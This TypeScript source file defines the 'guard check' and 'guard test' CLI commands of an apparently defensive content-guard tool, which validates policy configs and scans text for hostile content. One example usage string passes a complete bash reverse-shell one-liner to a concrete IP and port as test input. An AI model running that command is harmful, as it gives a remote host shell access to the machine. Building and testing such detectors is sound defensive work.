import { readFile } from 'node:fs/promises';
import { Command } from 'commander';
import { defaultGuardConfig, loadGuardConfig, type GuardConfig } from '../../apps/guard/config.js';
import { GuardEngine } from '../../apps/guard/engine.js';
import { policyWarnings } from '../../apps/guard/policy/catalog.js';
import { BUILT_IN_NON_BYPASSABLE } from '../../apps/guard/policy/non-bypassable.js';
import type { GuardDecision, GuardFinding } from '../../apps/guard/types.js';
import { WardenError, isWardenError } from '../../core/errors.js';
import { addGlobalFlags, examples, type GlobalFlags } from '../common.js';

/** Largest text `guard test` reads (the server's body limit is far below this). */
const MAX_INPUT_BYTES = 10 * 1024 * 1024;

interface CheckFlags extends GlobalFlags {
  policy: string;
}

/**
 * `warden guard check --policy FILE`: validates a guard config and lists its policies.
 * Exit 0 valid, 2 invalid (the message names file, line and field).
 */
export function guardCheckCommand(): Command {
  const command = new Command('check')
    .summary('validate a guard config (guard.yaml) and list its policies')
    .description('Validates the whole guard config: server, auth, upstreams, audit, stream and every policy (rules, allowlists, ReDoS-checked regexes). ' +
        'Rule ids and categories that no shipped detector reports are listed as warnings (usually typos).\n\nExit codes: 0 valid (warnings included), 2 invalid (file:line, field and message on stderr).')
    .requiredOption('--policy <file>', 'guard config file (YAML or JSON)');
  addGlobalFlags(command);
  examples(command, ['warden guard check --policy guard.yaml', 'warden guard check --policy guard.yaml --json']);
  return command.action(async function guardCheckAction(flags: CheckFlags) {
    let config: GuardConfig;
    try {
      ({ config } = await loadGuardConfig(flags.policy));
    } catch (error) {
      if (!isWardenError(error)) throw error;
      if (flags.json) process.stdout.write(JSON.stringify({ valid: false, file: flags.policy, error: { code: error.code, message: error.message } }, null, 2) + '\n');
      process.stderr.write(`warden: ${error.code}: ${error.message}\n  hint: ${error.hint}\n`);
      process.exitCode = error.exitCode;
      return;
    }
    const policies = Object.entries(config.policies).map(([id, p]) => ({
      id,
      mode: p.mode,
      block_threshold: p.block_threshold,
      explain_only: p.explain_only,
      rules: p.rules.length,
      allowlist: p.allowlist.length,
      non_bypassable: p.non_bypassable,
      ...(p.description ? { description: p.description } : {}),
    }));
    const warnings = Object.entries(config.policies).flatMap(([id, p]) => policyWarnings(id, p));
    for (const warning of warnings) process.stderr.write(`warden: warning: ${flags.policy}: ${warning}\n`);
    if (flags.json) {
      process.stdout.write(JSON.stringify({ valid: true, file: flags.policy, default_policy: config.default_policy, policies, warnings, built_in_non_bypassable: BUILT_IN_NON_BYPASSABLE }, null, 2) + '\n');
      return;
    }
    const lines = [`${flags.policy}: valid, ${policies.length} polic${policies.length === 1 ? 'y' : 'ies'}, default "${config.default_policy}"`];
    for (const p of policies) {
      const explain = p.explain_only.enabled ? `explain-only >= ${p.explain_only.threshold}` : 'explain-only off';
      lines.push(`  ${p.id.padEnd(16)} ${p.mode.padEnd(8)} block >= ${String(p.block_threshold).padEnd(4)} ${explain.padEnd(22)} ${p.rules} rule(s), ${p.allowlist} allowlist entr${p.allowlist === 1 ? 'y' : 'ies'}`);
    }
    process.stdout.write(lines.join('\n') + '\n');
  });
}

interface TestFlags extends GlobalFlags {
  policy?: string;
  policyId?: string;
  tenant?: string;
  text?: string;
  file?: string;
  preclassifier: boolean;
  exitOnFindings?: boolean;
}

/**
 * `warden guard test --policy FILE --text TEXT`: the decision for one text, as `POST /v1/guard`
 * would return it. Exit 0 allowed, 1 blocked (or would be, in shadow mode), 2 error; with
 * `--exit-on-findings`, any finding not allowed also exits 1 (gitleaks' convention).
 */
export function guardTestCommand(): Command {
  const command = new Command('test')
    .summary('show the guard decision for one text under a policy')
    .description(
      'Scans a text (--text, --file, or stdin) with every detector and applies a policy, printing the findings, their actions, ' +
        'the risk score and the response the guard would return.\n\n' +
        'Exit codes: 0 allowed (findings may still be masked or annotated), 1 blocked (or would be, for a shadow policy), 2 error. ' +
        'With --exit-on-findings any finding whose action is not `allow` also exits 1, as gitleaks does.',
    )
    .option('--policy <file>', 'guard config file (default: the built-in default policy)')
    .option('--policy-id <id>', 'policy to apply (default: the config\'s default_policy)')
    .option('--tenant <tenant>', 'tenant, for tenant-scoped allowlist entries')
    .option('--text <text>', 'the text to judge')
    .option('--file <file>', 'read the text from a file')
    .option('--no-preclassifier', 'do not load the pre-classifier (explain-only then never applies)')
    .option('--exit-on-findings', 'exit 1 when any finding is not allowed, even if the response is not blocked');
  addGlobalFlags(command);
  examples(command, [
    "warden guard test --policy guard.yaml --text 'bash -i >& /dev/tcp/45.33.32.156/4444 0>&1'",
    'warden guard test --policy guard.yaml --policy-id strict --tenant acme --file answer.md --json',
    'cat answer.md | warden guard test --policy guard.yaml',
  ]);
  return command.action(async function guardTestAction(flags: TestFlags) {
    if (flags.text !== undefined && flags.file !== undefined) throw new WardenError('W_USAGE', 'give --text or --file, not both');
    const config = flags.policy ? (await loadGuardConfig(flags.policy)).config : defaultGuardConfig();
    const text = flags.text ?? (await readInput(flags.file));
    const engine = await GuardEngine.create({ config, ...(flags.preclassifier ? {} : { preclassifier: null }) });
    const { decision, stats } = engine.guard(text, { ...(flags.policyId ? { policyId: flags.policyId } : {}), ...(flags.tenant ? { tenant: flags.tenant } : {}) });
    if (flags.json) process.stdout.write(JSON.stringify({ ...decision, stats }, null, 2) + '\n');
    else process.stdout.write(describeDecision(decision, engine.policy(decision.policy_id).blockThreshold));
    const blocked = decision.blocked || decision.would_block === true;
    process.exitCode = blocked || (flags.exitOnFindings && decision.findings.some((f) => f.action !== 'allow')) ? 1 : 0;
  });
}

async function readInput(file: string | undefined): Promise<string> {
  if (file !== undefined) {
    const data = await readFile(file).catch((cause: unknown) => {
      throw new WardenError('W_IO_NOT_FOUND', `cannot read: ${(cause as Error).message}`, { where: file, cause });
    });
    if (data.length > MAX_INPUT_BYTES) throw new WardenError('W_USAGE', `input larger than ${MAX_INPUT_BYTES} bytes`, { where: file });
    return data.toString('utf8');
  }
  if (process.stdin.isTTY) throw new WardenError('W_USAGE', 'give --text, --file, or pipe the text on stdin');
  const chunks: Buffer[] = [];
  let size = 0;
  for await (const chunk of process.stdin) {
    size += (chunk as Buffer).length;
    if (size > MAX_INPUT_BYTES) throw new WardenError('W_USAGE', `stdin larger than ${MAX_INPUT_BYTES} bytes`);
    chunks.push(chunk as Buffer);
  }
  return Buffer.concat(chunks).toString('utf8');
}

/** Human-readable decision: verdict line, one line per finding, then the response. */
export function describeDecision(decision: GuardDecision, threshold: number): string {
  const verdict = decision.shadow ? `SHADOW (would ${decision.would_block ? 'block' : 'allow'})` : decision.blocked ? 'BLOCKED' : 'ALLOWED';
  const lines = [`policy "${decision.policy_id}": ${verdict}  risk ${decision.risk_score}/100 (blocks at ${threshold}), ${decision.findings.length} finding(s), ${decision.latency_ms} ms`];
  for (const f of decision.findings) lines.push(`  ${findingLine(f)}`);
  for (const gap of decision.not_scanned ?? []) lines.push(`  not scanned: ${gap.what} (${gap.reason})`);
  lines.push('response:', decision.response);
  return lines.join('\n') + '\n';
}

function findingLine(f: GuardFinding): string {
  const intent = f.intent ? ` ${f.intent.label} P(educational)=${f.intent.educational.toFixed(2)} vs ${f.intent.threshold}` : '';
  const why = f.explain_only ? ' explain-only' : f.allowlisted ? ` allowlisted by ${f.allowlisted}` : '';
  return `[${f.span[0]}, ${f.span[1]})  ${f.action.padEnd(8)} ${f.severity.padEnd(8)} ${f.rule_id}  ${f.preview}  (${f.segment})${intent}${why}`;
}
